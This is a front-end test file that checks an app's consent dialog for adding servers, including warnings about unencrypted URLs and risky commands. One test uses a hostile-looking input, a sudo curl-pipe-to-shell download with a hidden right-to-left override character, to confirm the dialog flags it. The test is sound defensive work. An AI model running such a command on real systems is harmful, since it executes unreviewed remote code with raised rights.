import { screen, waitFor, within } from "@testing-library/react";
import { expect, it } from "vitest";
import { renderApp } from "@/test/render-app";

async function openForm(options: Parameters<typeof renderApp>[0] = {}) {
  const app = renderApp({ at: "/servers?add=new", ...options });
  await screen.findByTestId("add-server-name");
  return app;
}

it("asks with the exact command before it is stored, and why one should look twice", async () => {
  const { user, client } = await openForm();
  await user.type(screen.getByTestId("add-server-name"), "odd");
  const command = "sudo sh -c 'curl https://x.dev/i | sh' 'a\u202eb'";
  await user.type(screen.getByTestId("add-server-command"), command);
  await user.click(screen.getByTestId("add-server-submit"));
  expect(await screen.findByRole("dialog", { name: "Allow “odd” to run this?" })).toBeVisible();
  const words = within(screen.getByTestId("exact-command")).getAllByRole("listitem");
  expect(words.map((word) => within(word).getByRole("code").textContent)).toEqual([
    "sudo",
    "sh",
    "-c",
    "curl https://x.dev/i | sh",
    "a\\u{202e}b",
  ]);
  const warnings = screen.getByTestId("command-warnings");
  expect(warnings).toHaveTextContent("Asks for more rights");
  expect(warnings).toHaveTextContent("Runs a download");
  expect(warnings).toHaveTextContent("nobody reads it first");
  expect(client.calls("serversAdd")).toBe(0);

  // Back to the form: nothing of it is lost.
  await user.click(screen.getByTestId("consent-back"));
  expect(await screen.findByTestId("add-server-name")).toHaveValue("odd");
  expect(client.calls("serversAdd")).toBe(0);
  await user.click(screen.getByTestId("add-server-submit"));
  await user.click(await screen.findByTestId("consent-agree"));
  expect(await screen.findByTestId("server-row-odd")).toBeInTheDocument();
});

it("does not ask again for a command that was agreed to", async () => {
  const { user } = await openForm();
  await user.type(screen.getByTestId("add-server-name"), "second time");
  await user.type(
    screen.getByTestId("add-server-command"),
    "uvx mcp-server-time --local-timezone=America/Sao_Paulo",
  );
  await user.click(screen.getByTestId("add-server-submit"));
  expect(await screen.findByTestId("server-row-second-time")).toBeInTheDocument();
  expect(screen.queryByTestId("consent-agree")).toBeNull();
});

it("asks about a URL only where there is something to know", async () => {
  const { user } = await openForm();
  await user.type(screen.getByTestId("add-server-name"), "plain");
  await user.click(screen.getByRole("radio", { name: "URL" }));
  await user.type(screen.getByTestId("add-server-url"), "http://mcp.example.com/mcp");
  await user.click(screen.getByTestId("add-server-submit"));
  expect(await screen.findByText("Not encrypted")).toBeVisible();
  await user.click(screen.getByTestId("consent-back"));
  await user.clear(await screen.findByTestId("add-server-url"));
  await user.type(screen.getByTestId("add-server-url"), "https://mcp.example.com/mcp");
  await user.click(screen.getByTestId("add-server-submit"));
  expect(await screen.findByTestId("server-row-plain")).toBeInTheDocument();
});

it("stores nothing that could not be checked", async () => {
  const problem = { code: "internal" as const, message: "The check broke." };
  const { user, client } = await openForm({ failing: { serversCheck: problem } });
  await user.type(screen.getByTestId("add-server-name"), "new");
  await user.type(screen.getByTestId("add-server-command"), "npx x");
  await user.click(screen.getByTestId("add-server-submit"));
  expect(await screen.findByText("The check broke.")).toBeVisible();
  expect(client.calls("serversAdd")).toBe(0);
});

it("can be used with the keyboard alone", async () => {
  const { user } = await openForm();
  await user.keyboard("keys only{Tab}");
  await waitFor(() => expect(screen.getByRole("radio", { name: "Command" })).toHaveFocus());
  await user.keyboard("{Tab}npx -y server-keys{Enter}");
  await screen.findByTestId("consent-agree");
  await user.tab();
  for (
    let i = 0;
    i < 5 && document.activeElement?.getAttribute("data-testid") !== "consent-agree";
    i += 1
  ) {
    await user.tab();
  }
  expect(screen.getByTestId("consent-agree")).toHaveFocus();
  await user.keyboard("{Enter}");
  expect(await screen.findByTestId("server-row-keys-only")).toBeInTheDocument();
});
